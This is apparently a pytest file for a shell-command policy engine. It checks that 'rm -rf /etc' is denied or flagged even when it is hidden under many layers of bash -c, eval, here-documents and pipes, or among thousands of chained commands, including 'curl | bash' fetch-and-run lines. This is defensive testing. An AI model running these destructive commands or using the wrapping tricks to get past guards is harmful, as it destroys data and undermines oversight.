"""Lines that are too deep, too many or too long, with harm at their core, through an engine with all security packs.

None may be allowed, whichever way they are built; and no rule may be asked for the same hopeless line twice.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from policy_engine.bootstrap import Engine
from policy_engine.filesystem.file_system import Virtual
from policy_engine.model.limits import COMMAND_BYTES
from policy_engine.shell import parse as parsing
from tests.unit.compiler.asking import engine, shell

PACK = Path(__file__).resolve().parents[2] / "rules" / "security"
CORE = "rm -rf /etc"
MILLION = 1_000_000


def _guard() -> Engine:
    imports = [f'import "pack:security/{path.stem}"' for path in sorted(PACK.glob("*.policy"))]
    return engine("\n".join(imports), Virtual())


GUARD = _guard()


def _nested(wrap: Callable[[str, int], str], depth: int = 60, most: int = COMMAND_BYTES - 1000) -> str:
    """The core in so many layers, or as many as fit: quotes in quotes grow."""
    line = CORE
    for level in range(depth):
        wrapped = wrap(line, level)
        if len(wrapped) > most:
            break
        line = wrapped
    return line


def _double(line: str) -> str:
    for char in '\\"$`':
        line = line.replace(char, f"\\{char}")
    return f'"{line}"'


def _escaped(line: str) -> str:
    return "".join(char if char.isalnum() or char in "-/" else f"\\{char}" for char in line)


def _ansi(line: str) -> str:
    line = line.replace("\\", "\\\\").replace("'", "\\'")
    return f"$'{line}'"


DEEP: dict[str, Callable[[str, int], str]] = {
    "single": lambda line, level: f"bash -c {shlex.quote(line)}",
    "double": lambda line, level: f"bash -c {_double(line)}",
    "alternating": lambda line, level: f"bash -c {(_double if level % 2 else shlex.quote)(line)}",
    "escaped": lambda line, level: f"sh -c {_escaped(line)}",
    "ansi": lambda line, level: f"bash -c {_ansi(line)}",
    "eval": lambda line, level: f"eval {shlex.quote(line)}",
    "bare eval": lambda line, level: f"eval {line}",
    "substituted": lambda line, level: f'bash -c "$(echo {shlex.quote(line)})"',
    "run": lambda line, level: f'bash -c "$({line})"',
    "here-document": lambda line, level: f"bash <<'E{level}'\n{line}\nE{level}",
    "here-document in a word": lambda line, level: f"bash -c \"$(cat <<'E{level}'\n{line}\nE{level}\n)\"",
    "here-string": lambda line, level: f"bash <<< {shlex.quote(line)}",
    "input": lambda line, level: f"source /dev/stdin <<< {shlex.quote(line)}",
    "process": lambda line, level: f"bash <(echo {shlex.quote(line)})",
    "pipe": lambda line, level: f"echo {shlex.quote(line)} | sh",
    "group": lambda line, level: f"{{ {line}; }}",
    "subshell": lambda line, level: f"( {line} )",
    "if": lambda line, level: f"if true; then {line}; fi",
    "loop": lambda line, level: f"for i in a b; do {line}; done",
    "while": lambda line, level: f"while true; do {line}; break; done",
    "function": lambda line, level: f"f{level}() {{ {line}; }}; f{level}",
    "trap": lambda line, level: f"trap {shlex.quote(line)} EXIT",
    "wrappers": lambda line, level: f"env nice {line}",
    "negations": lambda line, level: f"! time {{ {line}; }}",
}


@pytest.mark.fault(25)
@pytest.mark.requirement("R23")
@pytest.mark.parametrize("depth", [3, 60])
@pytest.mark.parametrize("way", DEEP)
def test_harm_at_any_depth_is_not_allowed(way: str, depth: int) -> None:
    line = _nested(DEEP[way], depth)
    assert GUARD.decide(shell(line)).verdict in ("ask", "deny", "stop")


DOUBLING = "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}; " for n in range(20))
JOINTS = ("; ", " && ", " || ", "\n", " & ", " | ")
WIDE = {
    "substitutions in one another": "$(" * 200 + CORE + ")" * 200,
    "echoes in one another": "echo $(" * 200 + CORE + ")" * 200,
    "quoted in one another": 'echo "$(' * 200 + CORE + ')"' * 200,
    **{f"5000 by {joint!r}": joint.join(["true"] * 4999 + [CORE]) for joint in JOINTS},
    "5000 with paths": "; ".join([f"cp a{number} b{number}" for number in range(4999)] + [CORE]),
    "5000 downloads": "; ".join([f"curl -so f{n} https://example.com/{n}" for n in range(4999)] + [CORE]),
    "5000 that read code": "; ".join(["bash"] * 4999 + [CORE]),
    "2500 downloads that are run": "; ".join(["curl -s https://example.com | bash"] * 2500 + [CORE]),
    "5000 started by others": "; ".join(["env A=1 curl https://example.com"] * 2500 + [CORE]),
    "5000 substitutions": "echo" + " $(true)" * 4999 + f" $({CORE})",
    "5000 processes": "cat" + " <(true)" * 4999 + f" <({CORE})",
    "5000 functions": "".join(f"f{number}() {{ true; }}; " for number in range(4999)) + CORE,
    "functions that double": DOUBLING + f"f20() {{ {CORE}; }}; f0",
    "loops that multiply": "for i in a b; do " * 12 + CORE + "; done" * 12,
    "a value that doubles": "x=/etc; " + "x=$x$x; " * 40 + "rm -rf $x",
    "many words": "rm -rf" + " /a" * 40_000,
    "many folders": "cd a; " * 4000 + CORE,
    "many documents": "".join(f"cat <<E{n}\n$(true)\nE{n}\n" for n in range(2000)) + CORE,
    "many keywords": "time " * 20_000 + CORE,
    "a hopeless script": "select x in\ndo " * 6000 + CORE,
    "many quotes": "rm -rf " + "''" * 60_000 + "/etc",
    "many breaks": "rm \\\n" * 30_000 + "-rf /etc",
}  # fmt: skip


@pytest.mark.fault(24, 25)
@pytest.mark.requirement("R23")
@pytest.mark.parametrize("way", WIDE)
def test_harm_among_any_number_is_not_allowed(way: str) -> None:
    assert GUARD.decide(shell(WIDE[way])).verdict in ("ask", "deny", "stop")


@pytest.mark.fault(23)
@pytest.mark.requirement("R23")
@pytest.mark.parametrize(
    "line",
    [
        CORE + " " + "a" * MILLION, CORE + " " * MILLION, "true; " * (MILLION // 6) + CORE, "$(" * MILLION + CORE,
        "bash -c " + shlex.quote("true; " * (MILLION // 6) + CORE), f"cat <<E\n{'x' * MILLION}\nE\n{CORE}",
        "#" + "x" * MILLION + "\n" + CORE, "x=" + "a" * MILLION + "; " + CORE,
    ],
)  # fmt: skip
def test_a_line_of_a_million_characters_is_not_allowed(line: str) -> None:
    assert GUARD.decide(shell(line)).verdict in ("ask", "deny", "stop")


def test_a_hopeless_line_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    read, calls = parsing._parse, []
    monkeypatch.setattr(parsing, "_parse", lambda *given: calls.append(given) or read(*given))
    assert GUARD.decide(shell("if true; then " + CORE)).verdict == "deny"
    assert len(calls) == 1
